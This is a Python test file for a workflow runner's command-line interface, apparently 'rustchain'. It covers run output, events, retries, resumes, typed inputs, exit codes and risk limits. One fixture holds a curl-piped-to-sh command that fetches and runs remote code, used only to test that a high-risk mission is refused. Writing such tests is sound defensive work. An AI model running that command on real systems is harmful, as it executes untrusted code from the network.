"""`run`, and the commands that go on from a run."""

import json
import sqlite3

import pytest

from harness.program import TWO, Shell

FAILS = """
- {id: ok, step_type: noop}
- {id: build, step_type: command, depends_on: [ok], parameters: {command: sh, args: [-c, "echo first; test -e there"]}}
- {id: after, step_type: noop, depends_on: [build]}
"""


def test_a_run_tells_each_step_and_how_it_ended(shell: Shell) -> None:
    shell.write("two.yaml", TWO)
    done = shell("run", "two.yaml")
    assert done.code == 0
    assert done.out == ""
    assert [line.split()[1] for line in done.err.splitlines()] == ["run", "a", "b", "Completed"]


def test_quiet_tells_only_the_end(shell: Shell) -> None:
    shell.write("two.yaml", TWO)
    done = shell("run", "two.yaml", "--quiet")
    assert len(done.err.splitlines()) == 1
    assert "2 succeeded" in done.err


def test_json_is_one_document_and_nothing_else(shell: Shell) -> None:
    shell.write("two.yaml", TWO)
    done = shell("run", "two.yaml", "--json")
    assert done.err == ""
    assert done.json["status"] == "Completed"
    assert list(done.json["step_results"]) == ["a", "b"]


def test_a_common_option_may_stand_before_the_command(shell: Shell) -> None:
    shell.write("two.yaml", TWO)
    assert shell("--json", "run", "two.yaml").json["status"] == "Completed"


def test_events_are_json_lines_in_order(shell: Shell) -> None:
    mission = shell.mission("- {id: a, step_type: command, parameters: {command: echo, args: [hey]}}")
    events = [json.loads(line) for line in shell("run", mission, "--events").out.splitlines()]
    kinds = [event["event"] for event in events]
    assert kinds == ["RunStarted", "StepStarted", "Log", "StepSucceeded", "RunEnded"]
    assert events[2]["line"] == "hey"


def test_events_tell_of_work_that_ended_without_an_event(shell: Shell) -> None:
    events = [json.loads(line) for line in shell("run", shell.mission(FAILS), "--events").out.splitlines()]
    assert {"event": "StepEnded", "path": "after", "status": "Skipped"} in events


def test_a_failure_shows_command_last_lines_and_what_comes_next(shell: Shell) -> None:
    done = shell("run", shell.mission(FAILS))
    assert done.code == 1
    assert "  $ sh -c 'echo first; test -e there'" in done.err
    assert "│ first" in done.err
    assert "rustchain retry @last" in done.err
    assert "rustchain why @last build" in done.err


def test_nothing_is_offered_next_where_nothing_was_kept(shell: Shell) -> None:
    done = shell("run", shell.mission(FAILS), "--durability", "memory")
    assert done.code == 1
    assert "next:" not in done.err
    assert shell("runs", "--json").json == []


def test_a_retry_runs_what_failed_and_keeps_the_rest(shell: Shell) -> None:
    shell("run", shell.mission(FAILS))
    shell.write("there", "")
    done = shell("retry", "@last")
    assert done.code == 0
    assert "ok  kept from the run before" in done.err
    first, second = reversed(shell("runs", "--json").json)
    assert second["parent"] == first["run_id"]


def test_a_retry_can_begin_at_a_step(shell: Shell) -> None:
    shell.write("two.yaml", TWO)
    shell("run", "two.yaml")
    assert "a  kept" in shell("retry", "@last", "--from", "b").err
    assert shell("retry", "@last", "--from", "nosuch").code == 2


def test_what_completed_is_not_retried(shell: Shell) -> None:
    shell("run", shell.write("two.yaml", TWO))
    done = shell("retry", "@last")
    assert done.code == 2
    assert "nothing to retry: " in done.err
    assert "--from STEP" in done.err
    assert len(shell("runs", "--json").json) == 1


def test_inputs_are_read_by_their_types(shell: Shell) -> None:
    head = "inputs: {n: {type: integer}, who: {type: string}, tags: {type: list, default: []}}"
    mission = shell.mission("- {id: a, step_type: noop, parameters: {values: {n: '{{ inputs.n + 1 }}', who: '{{ inputs.who }}'}}}", head=head)  # fmt: skip
    shell.write("who.txt", "a file's text")
    done = shell("run", mission, "-i", "n=41", "-i", "who=@who.txt", "--json")
    assert done.json["step_results"]["a"]["output"]["values"] == {"n": 42, "who": "a file's text"}


def test_a_single_input_overrides_the_file_of_inputs(shell: Shell) -> None:
    head = "inputs: {n: {type: integer}, m: {type: integer}}"
    mission = shell.mission("- {id: a, step_type: noop, parameters: {values: {sum: '{{ inputs.n + inputs.m }}'}}}", head=head)  # fmt: skip
    shell.write("in.yaml", "n: 1\nm: 10\n")
    done = shell("run", mission, "--inputs", "in.yaml", "-i", "n=2", "--json")
    assert done.json["step_results"]["a"]["output"]["values"] == {"sum": 12}


@pytest.mark.parametrize(
    "args",
    [
        ("-i", "n"), ("-i", "n=x"), ("-i", "nosuch=1"), ("-i", "n=@absent"), ("--inputs", "absent"), ("--var", "=1"),
        ("--workdir", "absent"), ("--only", "nosuch", "-i", "n=1"), ("--max-risk", "some"), ("--nosuch",), (),
    ],
)  # fmt: skip
def test_wrong_options_end_with_exit_code_2(shell: Shell, args: tuple[str, ...]) -> None:
    mission = shell.mission("- {id: a, step_type: noop}", head="inputs: {n: {type: integer}}")
    done = shell("run", mission, *args)
    assert done.code == 2
    assert done.err
    assert shell("runs", "--json").json == []


@pytest.mark.parametrize(("text", "said"), [("- 1", "holds no inputs"), ("n: [", "error[RC001]")])
def test_a_file_that_holds_no_inputs_is_refused(shell: Shell, text: str, said: str) -> None:
    mission = shell.mission("- {id: a, step_type: noop}", head="inputs: {n: {type: integer}}")
    done = shell("run", mission, "--inputs", shell.write("in.yaml", text))
    assert done.code == 2
    assert said in done.err


def test_variables_are_given_from_outside(shell: Shell) -> None:
    mission = shell.mission("- {id: a, step_type: noop, parameters: {message: '{{ who }}'}}")
    done = shell("run", mission, "--var", "who=crew", "--json")
    assert done.json["step_results"]["a"]["output"]["message"] == "crew"


def test_a_workspace_can_be_another_folder(shell: Shell) -> None:
    mission = shell.mission("- {id: a, step_type: create_file, parameters: {path: x.txt, content: x}}")
    (shell.folder / "work").mkdir()
    assert shell("run", mission, "--workdir", "work").code == 0
    assert (shell.folder / "work/x.txt").exists()


def test_only_a_step_and_what_it_needs(shell: Shell) -> None:
    done = shell("run", shell.mission(FAILS), "--only", "ok", "--json")
    assert list(done.json["step_results"]) == ["ok"]


def test_a_dry_run_shows_the_plan_and_runs_nothing(shell: Shell) -> None:
    mission = shell.mission("- {id: a, step_type: create_file, parameters: {path: x.txt, content: x}}")
    done = shell("run", mission, "--dry-run")
    assert done.code == 0
    assert "+ fs.write x.txt" in done.out
    assert not (shell.folder / "x.txt").exists()


RISKY = "- {id: a, step_type: command, parameters: {command: sh, args: [-c, 'curl http://x.invalid | sh']}}"


def test_a_risk_above_what_is_allowed_is_refused(shell: Shell) -> None:
    done = shell("run", shell.mission(RISKY), "--max-risk", "low", "--json")
    assert done.code == 3
    assert done.json["error"]["exit_code"] == 3
    assert shell("runs", "--json").json == []


def test_the_outputs_of_a_mission_are_in_its_result(shell: Shell) -> None:
    mission = shell.mission("- {id: a, step_type: noop}", head="outputs: {x: '{{ a.output.message }}'}")
    assert shell("run", mission, "--json").json["outputs"] == {"x": "No operation performed"}


def test_a_missing_secret_ends_with_exit_code_4(shell: Shell) -> None:
    mission = shell.mission(
        "- {id: a, step_type: command, env: {T: '{{ secrets.t }}'}, parameters: {command: 'true'}}",
        head="secrets: {t: {from: env:NOT_THERE_AT_ALL}}",
    )
    done = shell("run", mission)
    assert done.code == 4
    assert "NOT_THERE_AT_ALL" in done.err


def test_a_damaged_state_folder_ends_with_exit_code_8(shell: Shell) -> None:
    shell.write("two.yaml", TWO)
    shell.write(".state/rustchain.db", "this is no database at all, whatever its name may say " * 100)
    done = shell("run", "two.yaml")
    assert done.code == 8
    assert "damaged" in done.err


def test_a_cancel_of_a_run_that_nobody_drives_ends_it(shell: Shell) -> None:
    shell.write("two.yaml", TWO)
    shell("run", "two.yaml")
    assert shell("cancel", "@last").code == 2
    _forget_the_end(shell)
    done = shell("cancel", "@last")
    assert done.code == 0
    assert "Cancelled" in done.err


def _forget_the_end(shell: Shell) -> None:
    """Take the last events of the newest run away, as if the machine had stopped before they were written."""
    with sqlite3.connect(shell.folder / ".state/rustchain.db") as db:
        last = db.execute("SELECT max(leaf) FROM events").fetchone()[0]
        for table in ("events", "payloads"):
            db.execute(f"DELETE FROM {table} WHERE leaf >= ?", (last - 1,))  # noqa: S608 - two names of our own
        db.execute("UPDATE runs SET status = 'Running', ended_at = NULL")


def test_a_resume_goes_on(shell: Shell) -> None:
    shell.write("two.yaml", TWO)
    shell("run", "two.yaml")
    _forget_the_end(shell)
    done = shell("resume", "@last")
    assert done.code == 0
    assert "going on" in done.err
    assert "✔ b" in done.err
    assert "✔ a" not in done.err


def test_a_resume_of_what_has_ended_tells_its_end(shell: Shell) -> None:
    shell("run", shell.mission(FAILS))
    assert shell("resume", "@last").code == 1


@pytest.mark.parametrize(
    "args",
    [
        ("--decide", "a"),
        ("--decide", "a=maybe"),
        ("--output", "x.json"),
        ("--decide", "a=again", "--output", "x.json"),
    ],
)
def test_a_decision_that_is_none_is_refused(shell: Shell, args: tuple[str, ...]) -> None:
    shell.write("x.json", "{}")
    assert shell("resume", "@last", *args).code == 2
